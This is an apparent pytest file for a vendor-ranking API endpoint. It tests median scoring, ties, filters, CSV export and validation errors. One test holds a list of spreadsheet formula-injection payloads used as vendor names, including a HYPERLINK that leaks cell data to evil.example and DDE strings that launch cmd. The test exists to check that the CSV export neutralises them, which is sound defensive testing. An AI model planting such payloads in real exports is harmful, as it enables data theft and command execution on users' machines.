"""GET /v1/vendors: the vendor ranking (median score, ties, current labels only, estimated-only
vendors last, filters), its CSV export (content negotiation, formula injection) and its errors."""

from __future__ import annotations

import copy
import csv
import io
import statistics
from dataclasses import fields
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from fastapi.testclient import TestClient
from sqlalchemy import text

from registry.services import ranking_rows
from schemas.results import fill_results
from tests.helpers import ADMIN_TOKEN, Publisher, add_key, register_publisher
from tests.test_ingest_status import problem_kind

TASK = "text-classification"
H100 = "nvidia-h100-sxm-80gb"
A100 = "nvidia-a100-sxm-80gb"
FIELDS = [
    "rank",
    "vendor",
    "display_name",
    "score_wh",
    "models",
    "labels",
    "measured",
    "estimated",
    "measured_share",
    "best_grade",
    "worst_grade",
    "median_quality",
]


def submit(client: TestClient, publisher: Publisher, label: dict[str, Any]) -> float:
    """Store a label; returns its graded figure (CI95 upper bound, Wh per unit)."""
    response = client.post(
        "/v1/labels", content=publisher.envelope(label), headers=publisher.headers
    )
    assert response.status_code == 201, response.text
    return float(response.json()["energy_ci95_high_wh"])


def publish(client: TestClient, publisher: Publisher, **overrides: Any) -> float:
    return submit(client, publisher, publisher.label(**overrides))


def estimated(publisher: Publisher, **overrides: Any) -> dict[str, Any]:
    """A label whose energy was estimated, not measured: no grade, no score."""
    label = publisher.label(**overrides)
    label["measurement"]["components"] = [{"name": "gpu", "method": "estimate"}]
    return fill_results(label)


def with_figures_of(label: dict[str, Any], template: dict[str, Any]) -> dict[str, Any]:
    """``label`` with the traces (hence the exact figures) of ``template``."""
    label["traces"] = copy.deepcopy(template["traces"])
    label["measurement"]["duration_s"] = template["measurement"]["duration_s"]
    return fill_results(label)


def ranking(client: TestClient, **params: str) -> dict[str, Any]:
    response = client.get("/v1/vendors", params={"task": TASK, "phase": "inference", **params})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["access-control-allow-origin"] == "*"
    body: dict[str, Any] = response.json()
    assert all(list(v) == FIELDS for v in body["vendors"])
    return body


def by_vendor(body: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {v["vendor"]: v for v in body["vendors"]}


def create_vendor(client: TestClient, slug: str, display_name: str) -> Publisher:
    admin = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
    body = {"slug": slug, "display_name": display_name}
    response = client.post("/v1/vendors", json=body, headers=admin)
    if response.status_code == 422:
        # The API refuses control and bidi characters in names (tests/test_abuse.py); names
        # stored before it did must still render safely: store this one directly.
        response = client.post("/v1/vendors", json={"slug": slug}, headers=admin)
        with client.app.state.engine.begin() as conn:  # type: ignore[attr-defined]
            update = "UPDATE vendors SET display_name = :name WHERE slug = :slug"
            conn.execute(text(update), {"name": display_name, "slug": slug})
    assert response.status_code == 201, response.text
    key = Ed25519PrivateKey.generate()
    token = response.json()["token"]
    add_key(client, slug, token, key)
    return Publisher(slug=slug, token=token, key=key)


def test_order_and_competition_ranks_with_ties(
    client: TestClient, publisher: Publisher, other_publisher: Publisher
) -> None:
    initech = register_publisher(client, "initech")
    hooli = register_publisher(client, "hooli")
    acme_label = publisher.label(power_w=300)
    acme = submit(client, publisher, acme_label)
    # globex's label has exactly acme's figures: a tie
    globex = submit(
        client, other_publisher, with_figures_of(other_publisher.label(power_w=300), acme_label)
    )
    assert globex == acme
    best = publish(client, initech, power_w=150)
    worst = publish(client, hooli, power_w=600)

    body = ranking(client)
    assert [(v["rank"], v["vendor"]) for v in body["vendors"]] == [
        (1, "initech"),
        (2, "acme"),  # ties share a rank, listed by slug
        (2, "globex"),
        (4, "hooli"),  # competition ranking: 1, 2, 2, 4
    ]
    assert [v["score_wh"] for v in body["vendors"]] == [best, acme, acme, worst]
    assert body["suite"] == "1"  # the only suite with labels
    assert body["task"] == TASK
    assert body["phase"] == "inference"
    assert body["hardware_class"] is None
    assert body["zone"] is None
    assert "median" in body["score"]
    assert "energy_ci95_high_wh" in body["score"]


def test_score_is_the_median_over_the_vendors_models(
    client: TestClient, publisher: Publisher
) -> None:
    figures = [
        publish(client, publisher, model="small", power_w=150),
        publish(client, publisher, model="medium", power_w=600),
        publish(client, publisher, model="large", power_w=1200),
    ]
    acme = by_vendor(ranking(client))["acme"]
    assert acme["score_wh"] == sorted(figures)[1]
    assert acme["score_wh"] == figures[1]
    assert (acme["models"], acme["labels"], acme["measured"], acme["estimated"]) == (3, 3, 3, 0)
    assert acme["measured_share"] == 1.0
    assert (acme["best_grade"], acme["worst_grade"]) == ("A", "D")

    # an even count: the mean of the two middle figures
    figures.append(publish(client, publisher, model="huge", power_w=3000))
    acme = by_vendor(ranking(client))["acme"]
    assert acme["score_wh"] == pytest.approx((figures[1] + figures[2]) / 2, rel=1e-12)
    assert acme["score_wh"] == pytest.approx(statistics.median(figures), rel=1e-12)
    assert acme["worst_grade"] == "E"


def test_one_good_model_does_not_buy_the_top_rank(
    client: TestClient, publisher: Publisher, other_publisher: Publisher
) -> None:
    flagship = publish(client, publisher, model="flagship", power_w=100)
    bad = [publish(client, publisher, model=f"bulk-{i}", power_w=1200) for i in range(2)]
    steady = [publish(client, other_publisher, model=f"m-{i}", power_w=400) for i in range(3)]
    assert flagship < min(steady)
    assert min(bad) > max(steady)

    vendors = ranking(client)["vendors"]
    assert [v["vendor"] for v in vendors] == ["globex", "acme"]
    acme = vendors[1]
    assert acme["score_wh"] == sorted([flagship, *bad])[1]  # the median, not the best
    assert acme["best_grade"] == "A"  # the good model still shows
    assert vendors[0]["score_wh"] == sorted(steady)[1]


def test_only_the_current_label_of_a_model_counts(
    client: TestClient, publisher: Publisher, other_publisher: Publisher
) -> None:
    old = publisher.label(revision="v1", power_w=100)
    old["created_at"] = "2026-01-01T00:00:00Z"
    new = publisher.label(revision="v2", power_w=1200)
    new["created_at"] = "2026-06-01T00:00:00Z"
    rival = publish(client, other_publisher, power_w=400)

    submit(client, publisher, old)
    assert [v["vendor"] for v in ranking(client)["vendors"]] == ["acme", "globex"]

    newer = submit(client, publisher, new)
    vendors = ranking(client)["vendors"]
    assert [v["vendor"] for v in vendors] == ["globex", "acme"]
    assert vendors[0]["score_wh"] == rival
    assert vendors[1]["score_wh"] == newer
    assert (vendors[1]["models"], vendors[1]["labels"]) == (1, 1)
    assert vendors[1]["best_grade"] == vendors[1]["worst_grade"] == "D"

    # re-submitting an older revision later does not bring back its better figure
    older = publisher.label(revision="v0", power_w=100)
    older["created_at"] = "2025-12-01T00:00:00Z"
    submit(client, publisher, older)
    assert by_vendor(ranking(client))["acme"]["score_wh"] == newer


def test_estimated_only_vendor_is_listed_last_without_a_score(
    client: TestClient, publisher: Publisher, other_publisher: Publisher
) -> None:
    initech = register_publisher(client, "initech")
    aaa = register_publisher(client, "aaa")
    submit(client, aaa, estimated(aaa, power_w=50))  # best figure, slug first: still last
    submit(client, other_publisher, estimated(other_publisher, power_w=50))
    acme = publish(client, publisher, model="measured", power_w=300)
    submit(client, publisher, estimated(publisher, model="guessed", power_w=10))
    worse = publish(client, initech, power_w=1200)

    vendors = ranking(client)["vendors"]
    assert [(v["rank"], v["vendor"]) for v in vendors] == [
        (1, "acme"),
        (2, "initech"),
        (3, "aaa"),  # unranked vendors share the rank after the last ranked one
        (3, "globex"),
    ]
    assert vendors[0]["score_wh"] == acme  # the estimated label does not enter the score
    assert (vendors[0]["labels"], vendors[0]["measured"], vendors[0]["estimated"]) == (2, 1, 1)
    assert vendors[0]["measured_share"] == 0.5
    assert vendors[0]["models"] == 2
    assert vendors[1]["score_wh"] == worse
    for vendor in vendors[2:]:
        assert vendor["score_wh"] is None
        assert vendor["measured_share"] == 0.0
        assert (vendor["labels"], vendor["measured"], vendor["estimated"]) == (1, 0, 1)
        assert vendor["best_grade"] is None
        assert vendor["worst_grade"] is None


def test_filters_by_hardware_class_and_zone(
    client: TestClient, publisher: Publisher, other_publisher: Publisher
) -> None:
    on_h100 = publish(client, publisher, hardware_class=H100, zone="FR", power_w=300)
    on_a100 = publish(client, publisher, hardware_class=A100, zone="DE", power_w=600)
    globex = publish(client, other_publisher, hardware_class=A100, zone="DE", power_w=400)
    # other tasks and phases stay out of the group
    publish(client, publisher, model="gen", task="text-generation", power_w=10)
    publish(client, other_publisher, model="trainer", phase="training", power_w=10)

    h100 = ranking(client, hardware=H100)
    assert h100["hardware_class"] == H100
    assert [(v["vendor"], v["score_wh"], v["labels"]) for v in h100["vendors"]] == [
        ("acme", on_h100, 1)
    ]
    a100 = ranking(client, hardware=A100)
    assert [(v["vendor"], v["score_wh"]) for v in a100["vendors"]] == [
        ("globex", globex),
        ("acme", on_a100),
    ]
    fr = ranking(client, zone="FR")
    assert fr["zone"] == "FR"
    assert [(v["vendor"], v["score_wh"]) for v in fr["vendors"]] == [("acme", on_h100)]
    assert [v["vendor"] for v in ranking(client, zone="DE", hardware=A100)["vendors"]] == [
        "globex",
        "acme",
    ]
    assert ranking(client, zone="SE")["vendors"] == []

    # all hardware classes: the model labelled on two classes counts once, at its median
    everything = by_vendor(ranking(client))
    assert (everything["acme"]["models"], everything["acme"]["labels"]) == (1, 2)
    assert everything["acme"]["score_wh"] == pytest.approx((on_h100 + on_a100) / 2, rel=1e-12)
    assert everything["globex"]["labels"] == 1
    assert ranking(client, task="text-generation")["vendors"][0]["vendor"] == "acme"
    assert [v["vendor"] for v in ranking(client, phase="training")["vendors"]] == ["globex"]


def parse_csv(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == FIELDS
    return list(reader)


def as_csv_cell(value: Any) -> str:
    return "" if value is None else str(value)


@pytest.mark.parametrize(
    ("params", "headers"),
    [
        ({}, {"Accept": "text/csv"}),
        ({}, {"Accept": "application/json;q=0.5, text/csv"}),
        ({"format": "csv"}, {}),
        ({"format": "csv"}, {"Accept": "application/json"}),
    ],
)
def test_csv_export_matches_json(
    client: TestClient,
    publisher: Publisher,
    other_publisher: Publisher,
    params: dict[str, str],
    headers: dict[str, str],
) -> None:
    publish(client, publisher, model="a", power_w=300)
    publish(client, publisher, model="b", power_w=700)
    submit(client, other_publisher, estimated(other_publisher))
    query = {"task": TASK, "phase": "inference", "hardware": H100, **params}
    response = client.get("/v1/vendors", params=query, headers=headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="carbonlabel-vendors-{TASK}-inference.csv"'
    )
    assert response.headers["access-control-allow-origin"] == "*"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.text.endswith("\r\n")
    rows = parse_csv(response.text)
    expected = ranking(client, hardware=H100)["vendors"]
    assert len(rows) == len(expected) == 2
    for row, vendor in zip(rows, expected, strict=True):
        assert row == {field: as_csv_cell(vendor[field]) for field in FIELDS}
    assert float(rows[0]["score_wh"]) == expected[0]["score_wh"]  # floats round-trip exactly
    assert rows[1]["score_wh"] == ""  # estimated only: no score


@pytest.mark.parametrize(
    ("params", "headers"),
    [
        ({}, {}),
        ({}, {"Accept": "*/*"}),
        ({}, {"Accept": "application/json"}),
        ({}, {"Accept": "text/csv;q=0.2, application/json"}),
        ({}, {"Accept": "text/html"}),
        ({"format": "json"}, {"Accept": "text/csv"}),
    ],
)
def test_json_unless_csv_is_preferred(
    client: TestClient, params: dict[str, str], headers: dict[str, str]
) -> None:
    query = {"task": TASK, "phase": "inference", **params}
    response = client.get("/v1/vendors", params=query, headers=headers)
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/json"
    assert response.json()["vendors"] == []


def test_empty_csv_has_the_header_row(client: TestClient) -> None:
    response = client.get(
        "/v1/vendors", params={"task": TASK, "phase": "training", "format": "csv"}
    )
    assert response.status_code == 200
    assert response.text == ",".join(FIELDS) + "\r\n"


HOSTILE_NAMES = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "quotes": 'Fine "Co", Ltd\nline two',
}


def test_csv_neutralises_formula_injection(client: TestClient) -> None:
    for index, (slug, name) in enumerate(HOSTILE_NAMES.items()):
        vendor = create_vendor(client, slug, name)
        publish(client, vendor, power_w=200 + 50 * index)

    response = client.get(
        "/v1/vendors", params={"task": TASK, "phase": "inference"}, headers={"Accept": "text/csv"}
    )
    assert response.status_code == 200
    rows = {row["vendor"]: row for row in parse_csv(response.text)}
    assert set(rows) == set(HOSTILE_NAMES)
    for slug, name in HOSTILE_NAMES.items():
        cell = rows[slug]["display_name"]
        if slug == "quotes":
            assert cell == name  # quoted by the csv module, read back intact
        else:
            assert cell == "'" + name
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    # JSON carries the names unchanged
    assert {v["vendor"]: v["display_name"] for v in ranking(client)["vendors"]} == HOSTILE_NAMES


@pytest.mark.parametrize(
    ("params", "pointer"),
    [
        ({"phase": "inference"}, "/query/task"),
        ({"task": TASK}, "/query/phase"),
        ({}, "/query/task"),
        ({"task": "speech-recognition", "phase": "inference"}, "/query/task"),
        ({"task": TASK, "phase": "testing"}, "/query/phase"),
        ({"task": TASK, "phase": "inference", "hardware": "abacus"}, "/query/hardware"),
        ({"task": TASK, "phase": "inference", "format": "xlsx"}, "/query/format"),
    ],
)
def test_bad_parameters_are_422_problems(
    client: TestClient, params: dict[str, str], pointer: str
) -> None:
    response = client.get("/v1/vendors", params=params)
    assert response.status_code == 422
    assert problem_kind(response) == "validation-error"
    assert pointer in [error["pointer"] for error in response.json()["errors"]]


def test_openapi_documents_json_csv_and_422(client: TestClient) -> None:
    operation = client.get("/openapi.json").json()["paths"]["/v1/vendors"]["get"]
    assert {"application/json", "text/csv"} <= set(operation["responses"]["200"]["content"])
    assert "application/problem+json" in operation["responses"]["422"]["content"]
    parameters = {p["name"]: p for p in operation["parameters"]}
    assert parameters["task"]["required"]
    assert parameters["phase"]["required"]
    assert {"hardware", "zone", "format", "suite", "size_class", "min_quality"} <= set(parameters)


def test_a_ranking_row_built_from_its_fields_is_the_dataclass() -> None:
    """``VendorRank.of`` (the stored ranking's rows, without the frozen ``__init__``) makes the
    same row as the constructor, and ``as_dict`` gives every field in the documented order."""
    values: dict[str, Any] = {
        "rank": 2, "vendor": "acme", "display_name": "Acme", "score_wh": 1.5, "models": 3,
        "labels": 4, "measured": 3, "estimated": 1, "measured_share": 0.75, "best_grade": "A",
        "worst_grade": "C", "median_quality": None,
    }  # fmt: skip
    assert (
        tuple(f.name for f in fields(ranking_rows.VendorRank))
        == ranking_rows.FIELDS
        == tuple(values)
    )
    assert list(ranking_rows.FIELDS) == FIELDS  # the API's documented columns
    row = ranking_rows.VendorRank.of(values)
    assert row == ranking_rows.VendorRank(**values)
    assert hash(row) == hash(ranking_rows.VendorRank(**values))
    assert list(row.as_dict().items()) == list(values.items())
    row.as_dict()["rank"] = 9  # a copy
    assert row.rank == 2
